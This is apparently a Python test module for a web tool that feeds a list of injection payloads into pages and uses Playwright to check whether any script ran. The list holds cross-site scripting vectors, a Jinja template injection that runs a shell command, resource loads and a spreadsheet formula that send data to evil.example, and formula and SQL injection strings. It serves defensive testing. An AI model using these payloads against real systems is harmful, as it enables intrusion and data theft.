"""Texts that have run as script, markup, style, template or formula in pages of tools like ours; here they are data."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page as Tab

RAN = "window.windrowRan = true"
VALUES = (
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"--><script>{RAN}</script>",
    f"]]><script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg onload='{RAN}'>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin='{RAN}' attributeName=x dur=1s>",
    f"<svg><a href='javascript:{RAN}'><text y=20>x</text></a></svg>",
    f"<math><mi href='javascript:{RAN}'>x</mi></math>",
    f"<body onload='{RAN}'>",
    f"<details open ontoggle='{RAN}'>",
    f"<input autofocus onfocus='{RAN}'>",
    f"<video><source onerror='{RAN}'></video>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src='javascript:{RAN}'></iframe>",
    f"<object data='javascript:{RAN}'></object>",
    f"<form action='javascript:{RAN}'><button>x</button></form>",
    f"<a href='javascript:{RAN}'>x</a>",
    f"javascript:{RAN}",
    f"JaVaScRiPt&colon;{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f'" onmouseover="{RAN}" x="',
    f"' onfocus='{RAN}' autofocus='",
    f'"><script>{RAN}</script>',
    f"'><img src=x onerror={RAN}>",
    f"`;{RAN};`",
    f"${{{RAN}}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<script src='https://evil.example/x.js'></script>",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202emoc.elpmaxe",
    "x' OR '1'='1",
)


class Watch:
    """What a browser noticed on the pages that it was led to: dialogs, refused script, script that ran."""

    def __init__(self, tab: Tab) -> None:
        self.noticed: list[str] = []
        self._tab = tab
        tab.on("dialog", self._dialog)
        tab.on("console", lambda said: self._console(said.text))
        tab.on("pageerror", lambda error: self.noticed.append(f"error: {error}"))

    def _dialog(self, dialog: object) -> None:
        self.noticed.append("a dialog")
        dialog.dismiss()  # type: ignore[attr-defined] # Playwright's, which has no type of its own here

    def _console(self, text: str) -> None:
        if "Content Security Policy" in text or "TrustedHTML" in text:
            self.noticed.append(text)

    def look(self, url: str) -> None:
        """Open a page, hover and focus what is there, and see that nothing ran."""
        self._tab.goto(url)
        self._tab.mouse.move(300, 300)
        self._tab.keyboard.press("Tab")
        if self._tab.evaluate("window.windrowRan === true"):
            self.noticed.append(f"script ran on {url}")
